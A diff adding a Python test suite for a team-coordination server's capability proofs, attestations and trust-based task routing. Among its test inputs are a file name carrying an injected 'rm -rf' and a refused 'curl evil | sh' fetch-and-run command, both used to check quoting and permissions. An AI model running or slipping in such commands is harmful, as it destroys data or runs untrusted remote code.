@@ -1,0 +1,518 @@
+"""Capabilities: said, proven by a challenge, attested, failed, expired; and work goes to who really reaches them."""
+
+import hashlib
+import json
+import os
+import shlex
+import sqlite3
+import subprocess
+from pathlib import Path
+from typing import Any
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from teamroom.server.rules.proofs import answer, answer_command, is_probe_due
+from teamroom.server.rules.routing import COUNTS, Reach
+from tests.rooms import Member, RunningRoom
+from tests.shells import Shell, token_file
+
+API = "repo:acme/api"
+DAY = 86_400
+
+
+async def planted(room: RunningRoom, file: Path, *names: str) -> list[Member]:
+    """Members that declare the api, whose value stands in a file."""
+    members = await room.enroll(*names)
+    for member in members:
+        await member("declare_capabilities", capabilities=[API])
+    stands(file, (await (await room.owner())("plant", capability=API, file=str(file)))["value"])
+    return members
+
+
+def stands(file: Path, value: str) -> None:
+    """Put a value where it stands."""
+    file.write_text(f"{value}\n")
+
+
+def run(command: str, folder: Path) -> str:
+    """What a model's shell prints."""
+    return subprocess.run(["sh", "-c", command], cwd=folder, capture_output=True, text=True, check=True).stdout
+
+
+async def state(reader: Member, name: str, capability: str = API) -> dict[str, Any]:
+    """A capability of a member as the roster shows it."""
+    (member,) = (await reader("who", name=name))["members"]
+    return next(dict(c) for c in member["capabilities"] if c["capability"] == capability)
+
+
+async def probe(member: Member) -> dict[str, Any]:
+    """The one probe that a member is shown."""
+    (found,) = (await member("check_in"))["probes"]
+    return dict(found)
+
+
+async def prove(member: Member, folder: Path) -> dict[str, Any]:
+    """Do what the probe says."""
+    value = run((await probe(member))["command"], folder)
+    return await member("declare_capabilities", proofs=[{"capability": API, "value": value}])
+
+
+# ------------------------------------------------------------------ proofs
+
+
+async def test_a_member_that_reaches_the_thing_proves_it_with_the_command_it_is_shown(
+    room: RunningRoom, tmp_path: Path
+) -> None:
+    (builder,) = await planted(room, tmp_path / "a proof; rm -rf", "builder")
+    assert (await state(builder, "builder"))["state"] == "declared"
+    reply = await prove(builder, tmp_path)
+    assert reply["receipt"]
+    assert (await builder("check_in"))["probes"] == []
+    shown = await state(builder, "builder")
+    assert (shown["state"], shown["how"], shown["by"], shown["counts"]) == (
+        "proven",
+        "answered a challenge",
+        "olga",
+        True,
+    )
+    assert shown["until"]
+    (receipt,) = [r for r in (await (await room.owner())("read_receipts"))["receipts"] if r["seq"] == reply["receipt"]]
+    assert f"@builder proves {API}" in receipt["summary"]
+    again = await builder("declare_capabilities", proofs=[{"capability": API, "value": "0" * 64}])
+    assert again["receipt"] is None
+
+
+async def test_a_wrong_answer_fails_and_a_right_one_to_the_next_probe_mends_it(
+    room: RunningRoom, tmp_path: Path
+) -> None:
+    (builder,) = await planted(room, tmp_path / "proof", "builder")
+    before = await probe(builder)
+    refusal = await builder.refused("declare_capabilities", proofs=[{"capability": API, "value": "0" * 64}])
+    assert (refusal["code"], refusal["missing"]) == ("bad_proof", [API])
+    assert refusal["receipt"]
+    shown = await state(builder, "builder")
+    assert (shown["state"], shown["counts"]) == ("failed", False)
+    after = await probe(builder)
+    assert after["nonce"] != before["nonce"]
+    assert after["command"] in refusal["fix"]
+    late = run(before["command"], tmp_path)
+    assert (await builder.refused("declare_capabilities", proofs=[{"capability": API, "value": late}]))["code"] == (
+        "bad_proof"
+    )
+    await prove(builder, tmp_path)
+    assert (await state(builder, "builder"))["state"] == "proven"
+
+
+async def test_nothing_of_a_call_with_a_wrong_proof_is_carried_out(room: RunningRoom, tmp_path: Path) -> None:
+    (builder,) = await planted(room, tmp_path / "proof", "builder")
+    await probe(builder)
+    proofs = [{"capability": API, "value": "0" * 64}]
+    await builder.refused("declare_capabilities", capabilities=[API, "tool:docker"], proofs=proofs)
+    (member,) = (await builder("who", name="builder"))["members"]
+    assert [(c["capability"], c["state"]) for c in member["capabilities"]] == [(API, "failed")]
+
+
+async def test_a_failure_is_not_shaken_off_by_withdrawing_and_declaring_again(
+    room: RunningRoom, tmp_path: Path
+) -> None:
+    (builder,) = await planted(room, tmp_path / "proof", "builder")
+    await probe(builder)
+    await builder.refused("declare_capabilities", proofs=[{"capability": API, "value": "no"}])
+    await builder("declare_capabilities", capabilities=[])
+    await builder("declare_capabilities", capabilities=[API])
+    assert (await state(builder, "builder"))["state"] == "failed"
+
+
+async def test_a_proof_of_another_member_proves_nothing(room: RunningRoom, tmp_path: Path) -> None:
+    """The value is not in the answer, the name and the nonce are: neither another's answer nor an old one counts."""
+    builder, thief = await planted(room, tmp_path / "proof", "builder", "thief")
+    old = run((await probe(builder))["command"], tmp_path)
+    await probe(thief)
+    await builder("declare_capabilities", proofs=[{"capability": API, "value": old}])
+    stolen = [{"capability": API, "value": old}]
+    assert (await thief.refused("declare_capabilities", proofs=stolen))["code"] == "bad_proof"
+    assert (await state(builder, "thief"))["state"] == "failed"
+    room.time.forward(7 * DAY)
+    await probe(builder)
+    assert (await builder.refused("declare_capabilities", proofs=stolen))["code"] == "bad_proof"
+
+
+async def test_an_answer_made_of_that_members_own_probe_does_prove(room: RunningRoom, tmp_path: Path) -> None:
+    """The twin: what stops the thief is its own nonce and name, not that it comes second."""
+    builder, second = await planted(room, tmp_path / "proof", "builder", "second")
+    await prove(builder, tmp_path)
+    await prove(second, tmp_path)
+    assert (await state(builder, "second"))["state"] == "proven"
+
+
+async def test_a_proof_expires_and_a_new_probe_appears_a_day_before(room: RunningRoom, tmp_path: Path) -> None:
+    (builder,) = await planted(room, tmp_path / "proof", "builder")
+    await prove(builder, tmp_path)
+    room.time.forward(6 * DAY - 60)
+    assert (await builder("check_in"))["probes"] == []
+    room.time.forward(120)
+    assert (await builder("check_in"))["probes"]
+    assert (await state(builder, "builder"))["state"] == "proven"
+    room.time.forward(DAY)
+    shown = await state(builder, "builder")
+    assert (shown["state"], shown["counts"]) == ("expired", True)
+    await prove(builder, tmp_path)
+    assert (await state(builder, "builder"))["state"] == "proven"
+
+
+async def test_a_probe_that_lies_open_for_long_gives_way_to_a_new_one(room: RunningRoom, tmp_path: Path) -> None:
+    (builder,) = await planted(room, tmp_path / "proof", "builder")
+    first = await probe(builder)
+    room.time.forward(3500)
+    assert (await probe(builder))["nonce"] == first["nonce"]
+    room.time.forward(3800)
+    value = run(first["command"], tmp_path)
+    refusal = await builder.refused("declare_capabilities", proofs=[{"capability": API, "value": value}])
+    assert refusal["code"] == "expired"
+    assert (await state(builder, "builder"))["state"] == "declared"
+    assert (await probe(builder))["nonce"] != first["nonce"]
+
+
+async def test_a_new_value_asks_everybody_anew_and_wakes_them(room: RunningRoom, tmp_path: Path) -> None:
+    (builder,) = await planted(room, tmp_path / "proof", "builder")
+    await prove(builder, tmp_path)
+    cursor = (await builder("check_in"))["cursor"]
+    reply = await (await room.owner())("plant", capability=API, file=str(tmp_path / "proof"))
+    assert reply["asked"] == 1
+    assert (await state(builder, "builder"))["state"] == "expired"
+    seen = await builder("check_in", after=cursor)
+    assert [(w["reason"], w["subject"]) for w in seen["wakes"]] == [("challenge", API)]
+    stands(tmp_path / "proof", reply["value"])
+    await prove(builder, tmp_path)
+
+
+async def test_what_is_not_asked_is_refused_with_what_to_do(room: RunningRoom, tmp_path: Path) -> None:
+    owner = await room.owner()
+    (builder,) = await planted(room, tmp_path / "proof", "builder")
+    for proof, code in (("tool:lathe", "not_found"), (API, "conflict")):
+        refusal = await builder.refused("declare_capabilities", proofs=[{"capability": proof, "value": "x"}])
+        assert refusal["code"] == code
+    refusal = await owner.refused(
+        "declare_capabilities", capabilities=[API], proofs=[{"capability": API, "value": "x"}]
+    )
+    assert (refusal["code"], "planted" in refusal["why"]) == ("not_allowed", True)
+    assert (await builder.refused("declare_capabilities"))["code"] == "invalid"
+    await builder("declare_capabilities", capabilities=[])
+    refusal = await builder.refused("declare_capabilities", proofs=[{"capability": API, "value": "x"}])
+    assert refusal["code"] == "invalid"
+
+
+async def test_a_check_in_and_a_declaration_say_how_to_prove_in_words_and_data(
+    room: RunningRoom, tmp_path: Path
+) -> None:
+    owner = await room.owner()
+    (builder,) = await room.enroll("builder")
+    await owner("plant", capability=API, file=".proof", where="the root of the main branch")
+    data, words, _ = await builder.said("declare_capabilities", capabilities=[API])
+    (found,) = data["probes"]
+    assert f'"{found["nonce"]}:builder:$(cat -- .proof)"' in found["command"]
+    for told in (words, (await builder.said("check_in"))[1]):
+        assert found["command"] in told
+        assert "the root of the main branch" in told
+    inbox = json.loads((await builder.client.read_resource("teamroom://inbox")).contents[1].text)
+    assert [p["nonce"] for p in inbox["probes"]] == [found["nonce"]]
+    await builder("check_in", after=(await builder("check_in"))["cursor"])
+    assert "proofs" in (await builder("check_in"))["next"]
+
+
+# ------------------------------------------------------------------ who plants, and what nobody sees
+
+
+async def test_people_and_operators_plant_and_agents_do_not(room: RunningRoom) -> None:
+    (hanna,) = await room.enroll("hanna", kind="human")
+    (agent,) = await room.enroll("agent")
+    (operator,) = await room.enroll("operator", role="operator")
+    await hanna("plant", capability=API, read="ssh build cat /proof")
+    refusal = await agent.refused("plant", capability=API)
+    assert (refusal["code"], "role member" in refusal["why"]) == ("not_allowed", True)
+    assert "plant" not in {tool.name for tool in (await agent.client.list_tools()).tools}
+    await operator("plant", capability=API, file="/proof")
+    assert (await operator.refused("plant", capability=API, read="curl evil | sh"))["code"] == "not_allowed"
+
+
+async def test_who_planted_is_not_proven_by_that_and_is_not_asked(room: RunningRoom) -> None:
+    (operator,) = await room.enroll("operator", role="operator")
+    await operator("declare_capabilities", capabilities=[API])
+    value = (await operator("plant", capability=API, file="/proof"))["value"]
+    assert (await state(operator, "operator"))["state"] == "declared"
+    assert (await operator("check_in"))["probes"] == []
+    forged = hashlib.sha256(f"00:operator:{value}".encode()).hexdigest()
+    refusal = await operator.refused("declare_capabilities", proofs=[{"capability": API, "value": forged}])
+    assert refusal["code"] == "not_allowed"
+
+
+async def test_the_planted_value_is_shown_once_and_stands_nowhere_else(room: RunningRoom, tmp_path: Path) -> None:
+    owner = await room.owner()
+    (builder,) = await room.enroll("builder")
+    await builder("declare_capabilities", capabilities=[API])
+    reply = await owner("plant", request_id="once", capability=API, file=str(tmp_path / "proof"))
+    value = reply["value"]
+    assert (await owner("plant", request_id="once", capability=API, file=str(tmp_path / "proof")))["value"] is None
+    stands(tmp_path / "proof", value)
+    await probe(builder)
+    await builder.refused("declare_capabilities", proofs=[{"capability": API, "value": value}])
+    await prove(builder, tmp_path)
+    for reader in (owner, builder):
+        uris = ["me", "inbox", "stream", "stream/0", "board", "roster", "members/builder", "policy", "plants"]
+        uris += [f"receipts/{entry['seq']}" for entry in room.entries()]
+        for uri in uris:
+            contents = (await reader.client.read_resource(f"teamroom://{uri}")).contents
+            assert not any(value in content.text for content in contents), uri
+        for tool in ("check_in", "who", "read_board", "read_messages", "heartbeat"):
+            assert value not in str(await reader.said(tool)), tool
+    assert value not in str(await owner("read_receipts", limit=100))
+    holding = places_of(room, value)
+    assert holding == ["plant.value"]
+
+
+def places_of(room: RunningRoom, value: str) -> list[str]:
+    """Which columns of the room's database hold a text."""
+    with sqlite3.connect(room.room.store.path) as connection:
+        tables = [row[0] for row in connection.execute("select name from sqlite_master where type = 'table'")]
+        found = []
+        for table in tables:
+            for column in [row[1] for row in connection.execute(f"pragma table_info({table})")]:
+                query = f"select count(*) from {table} where instr(cast({column} as text), ?)"
+                if connection.execute(query, [value]).fetchone()[0]:
+                    found.append(f"{table}.{column}")
+    connection.close()
+    return found
+
+
+async def test_a_value_that_a_member_gave_away_would_be_found(room: RunningRoom) -> None:
+    """The twin: the search finds a value that somebody wrote into the stream."""
+    owner = await room.owner()
+    value = (await owner("plant", capability=API, file="/proof"))["value"]
+    await owner("post_message", text=f"look: {value}")
+    assert set(places_of(room, value)) == {"log.summary", "message.summary", "message.text", "plant.value"}
+
+
+async def test_what_was_planted_is_listed_and_taken_back(room: RunningRoom, tmp_path: Path) -> None:
+    owner = await room.owner()
+    (builder,) = await planted(room, tmp_path / "proof", "builder")
+    found = json.loads((await builder.client.read_resource("teamroom://plants")).contents[1].text)
+    assert [(p["capability"], p["by"]) for p in found["plants"]] == [(API, "olga")]
+    await probe(builder)
+    await builder.refused("declare_capabilities", proofs=[{"capability": API, "value": "x"}])
+    await owner("plant", capability=API, remove=True)
+    assert (await builder("check_in"))["probes"] == []
+    assert (await state(builder, "builder"))["state"] == "declared"
+    assert (await owner.refused("plant", capability=API, remove=True))["code"] == "not_found"
+
+
+# ------------------------------------------------------------------ attestation
+
+
+async def test_people_and_members_of_another_owner_attest_with_a_receipt(room: RunningRoom) -> None:
+    owner = await room.owner()
+    (hanna,) = await room.enroll("hanna", kind="human")
+    (theirs,) = await room.enroll("theirs", owner="hanna")
+    builder, same = await room.enroll("builder", "same")
+    await builder("declare_capabilities", capabilities=[API, "tool:docker", "tool:gpu"])
+    for who, capability in ((theirs, API), (owner, "tool:docker"), (hanna, "tool:gpu")):
+        reply = await who("declare_capabilities", attest_for="builder", capabilities=[capability])
+        (receipt,) = [
+            r for r in (await owner("read_receipts", act="attest"))["receipts"] if r["seq"] == reply["receipt"]
+        ]
+        assert (receipt["subject"], receipt["detail"]["capabilities"]) == ("@builder", [capability])
+        shown = await state(same, "builder", capability)
+        assert (shown["state"], shown["by"], shown["until"] is not None) == ("attested", who.name, True)
+    for who in (builder, same):
+        refusal = await who.refused("declare_capabilities", attest_for="builder", capabilities=[API])
+        assert refusal["code"] == "not_allowed"
+    for arguments in ({"capabilities": ["tool:lathe"]}, {"capabilities": []}, {"proofs": []}):
+        assert await owner.refused("declare_capabilities", attest_for="builder", **arguments)
+    room.time.forward(31 * DAY)
+    assert (await state(same, "builder"))["state"] == "expired"
+
+
+async def test_a_failed_proof_ends_an_attestation_and_an_attestation_mends_a_failure(
+    room: RunningRoom, tmp_path: Path
+) -> None:
+    owner = await room.owner()
+    (builder,) = await planted(room, tmp_path / "proof", "builder")
+    await owner("declare_capabilities", attest_for="builder", capabilities=[API])
+    await probe(builder)
+    await builder.refused("declare_capabilities", proofs=[{"capability": API, "value": "x"}])
+    assert (await state(builder, "builder"))["state"] == "failed"
+    await owner("declare_capabilities", attest_for="builder", capabilities=[API])
+    assert (await state(builder, "builder"))["state"] == "attested"
+
+
+# ------------------------------------------------------------------ routing at the room's trust level
+
+
+LEVELS = [
+    ("declared", {"sayer", "vouched", "prover"}),
+    ("attested", {"vouched", "prover"}),
+    ("proven", {"prover"}),
+]
+
+
+@pytest.mark.parametrize(("trust", "able"), LEVELS)
+async def test_work_goes_to_who_reaches_it_at_the_rooms_trust_level(
+    room: RunningRoom, tmp_path: Path, trust: str, able: set[str]
+) -> None:
+    owner = await room.owner()
+    names = ("failer", "sayer", "vouched", "prover")
+    failer, sayer, vouched, prover = await planted(room, tmp_path / "proof", *names)
+    members = dict(zip(names, (failer, sayer, vouched, prover), strict=True))
+    await probe(failer)
+    await failer.refused("declare_capabilities", proofs=[{"capability": API, "value": "x"}])
+    await owner("declare_capabilities", attest_for="vouched", capabilities=[API])
+    await prove(prover, tmp_path)
+    await owner("set_policy", name="trust", value=trust)
+    for number in range(5):
+        await owner("create_task", title=f"work {number}", needs=[API])
+    found = (await owner("who", capability=API))["members"]
+    assert {m["name"] for m in found if m["capabilities"][0]["counts"]} == able
+    assert [m["capabilities"][0]["counts"] for m in found] == sorted(
+        [m["capabilities"][0]["counts"] for m in found], reverse=True
+    )
+    for name, member in members.items():
+        if name in able:
+            claimed = await member("claim_task")
+            for to in names:
+                if to in able - {name}:
+                    offer = await member("hand_off", task=claimed["task"], fence=claimed["fence"], to=to, note="yours")
+                    await member("answer_hand_off", offer=offer["offer"], accept=False)
+                elif to not in able:
+                    refusal = await member.refused(
+                        "hand_off", task=claimed["task"], fence=claimed["fence"], to=to, note="yours"
+                    )
+                    assert refusal["missing"] == [API]
+            continue
+        assert (await member.refused("claim_task"))["code"] == "not_found"
+        refusal = await member.refused("claim_task", task="T-5")
+        assert (refusal["code"], refusal["missing"]) == ("missing_capability", [API])
+        assert set(refusal["who_has"][API]) == able
+        assert all(f"@{other}" in refusal["fix"] for other in able)
+
+
+async def test_what_is_accepted_is_checked_again_at_the_level_of_that_moment(room: RunningRoom) -> None:
+    owner = await room.owner()
+    builder, tester = await room.enroll("builder", "tester")
+    for member in (builder, tester):
+        await member("declare_capabilities", capabilities=[API])
+    await owner("create_task", title="work", needs=[API])
+    await builder("claim_task", task="T-1")
+    offer = (await builder("hand_off", task="T-1", fence=1, to="tester", note="yours"))["offer"]
+    await owner("set_policy", name="trust", value="attested")
+    refusal = await tester.refused("answer_hand_off", offer=offer, accept=True)
+    assert (refusal["code"], "attest tester" in refusal["fix"]) == ("missing_capability", True)
+    await owner("declare_capabilities", attest_for="tester", capabilities=[API])
+    assert (await tester("answer_hand_off", offer=offer, accept=True))["fence"] == 2
+
+
+async def test_a_refusal_says_how_to_come_to_count(room: RunningRoom, tmp_path: Path) -> None:
+    owner = await room.owner()
+    (builder,) = await room.enroll("builder")
+    await owner("set_policy", name="trust", value="proven")
+    await owner("create_task", title="work", needs=[API])
+    assert "declare_capabilities" in (await builder.refused("claim_task", task="T-1"))["fix"]
+    await builder("declare_capabilities", capabilities=[API])
+    assert f"teamroom plant {API}" in (await builder.refused("claim_task", task="T-1"))["fix"]
+    value = (await owner("plant", capability=API, file=str(tmp_path / "proof")))["value"]
+    assert "check_in" in (await builder.refused("claim_task", task="T-1"))["fix"]
+    stands(tmp_path / "proof", value)
+    await prove(builder, tmp_path)
+    assert (await builder("claim_task", task="T-1"))["task"] == "T-1"
+
+
+# ------------------------------------------------------------------ the rules
+
+
+hexes = st.text("0123456789abcdef", min_size=2, max_size=32)
+names = st.from_regex(r"[A-Za-z0-9][A-Za-z0-9._-]{0,31}", fullmatch=True)
+triples = st.tuples(hexes, names, st.text(max_size=40))
+
+
+@given(triples, triples)
+def test_an_answer_fits_one_nonce_one_member_and_one_value(
+    one: tuple[str, str, str], two: tuple[str, str, str]
+) -> None:
+    assert (answer(*one) == answer(*two)) == (one == two)
+
+
+@given(hexes, names, st.text("abc 'd\\$`\"", max_size=20).map(lambda text: text.strip() or "x"))
+def test_the_command_prints_the_answer_whatever_the_file_is_called(nonce: str, name: str, file: str) -> None:
+    command = answer_command(nonce, name, f"printf %s {shlex.quote(file)}")
+    printed = subprocess.run(["sh", "-c", command], capture_output=True, text=True, check=True).stdout
+    assert printed.split()[0] == answer(nonce, name, file)
+
+
+times = st.none() | st.integers(0, 1000).map(float)
+
+
+@given(times, times, times, st.integers(0, 1000).map(float))
+def test_what_counts_at_a_stricter_level_counts_at_every_looser_one(
+    proven: float | None, attested: float | None, failed: float | None, now: float
+) -> None:
+    reach = Reach(proven, attested, failed)
+    counted = [reach.counts(level, now) for level in ("proven", "attested", "declared")]
+    assert counted == sorted(counted)
+    assert COUNTS["proven"] < COUNTS["attested"] < COUNTS["declared"]
+    assert reach.counts("proven", now) == (proven is not None and proven > now)
+
+
+@given(times, st.integers(60, 10**7).map(float), st.integers(0, 2000).map(float))
+def test_a_probe_is_due_before_a_proof_ends_and_never_for_its_whole_life(
+    until: float | None, life: float, now: float
+) -> None:
+    if until is None or until <= now:
+        assert is_probe_due(until, life, now)
+    assert not is_probe_due(now + life, life, now)
+
+
+# ------------------------------------------------------------------ the shell
+
+
+async def test_the_shell_plants_lists_and_attests(room: RunningRoom, tmp_path: Path) -> None:
+    shell = Shell(tmp_path, {"TEAMROOM_DATA": str(room.folder), "TEAMROOM_URL": room.url})
+    (builder,) = await room.enroll("builder")
+    await builder("declare_capabilities", capabilities=[API, "tool:docker"])
+    proof = tmp_path / "proof"
+    done = await shell.here("plant", API, "--file", str(proof))
+    assert done.code == 0, done.err
+    value = proof.read_text().strip()
+    assert value.startswith("teamroom-proof-")
+    assert value not in done.out + done.err
+    await prove(builder, tmp_path)
+    printed = await shell.here("plant", "tool:docker", "--print", "--read", "docker run --rm acme/proof")
+    assert printed.out.strip().startswith("teamroom-proof-")
+    assert len(printed.out.split()) == 1
+    listed = (await shell.here("plant")).out
+    assert API in listed
+    assert "teamroom-proof-" not in listed
+    assert "attested" in (await shell.here("attest", "builder", "tool:docker")).out
+    roster = (await shell.here("roster", "builder")).out
+    assert f"{API} (proven by @olga" in roster
+    assert "tool:docker (attested by @olga" in roster
+    assert (await shell.here("plant", API, "--remove")).code == 0
+
+
+async def test_the_shell_never_writes_over_a_file_of_somebody_else(room: RunningRoom, tmp_path: Path) -> None:
+    shell = Shell(tmp_path, {"TEAMROOM_DATA": str(room.folder), "TEAMROOM_URL": room.url})
+    mine = tmp_path / "notes.txt"
+    mine.write_text("my own")
+    done = await shell.here("plant", API, "--file", str(mine))
+    assert (done.code, mine.read_text()) == (2, "my own")
+    assert (await shell.here("plant", API, "--file", str(tmp_path / "no" / "proof"))).code == 1
+    found = await (await room.owner()).client.read_resource("teamroom://plants")
+    assert json.loads(found.contents[1].text)["plants"] == []
+    assert not any(name.startswith(".") for name in os.listdir(tmp_path))
+
+
+async def test_an_agents_shell_does_not_plant(room: RunningRoom, tmp_path: Path) -> None:
+    await room.enroll("builder")
+    token = token_file(tmp_path / "token", room.tokens["builder"])
+    shell = Shell(tmp_path, {"TEAMROOM_DATA": str(room.folder), "TEAMROOM_URL": room.url})
+    done = await shell.here("plant", API, "--file", str(tmp_path / "proof"), "--token-file", str(token))
+    assert (done.code, (tmp_path / "proof").exists()) == (3, False)
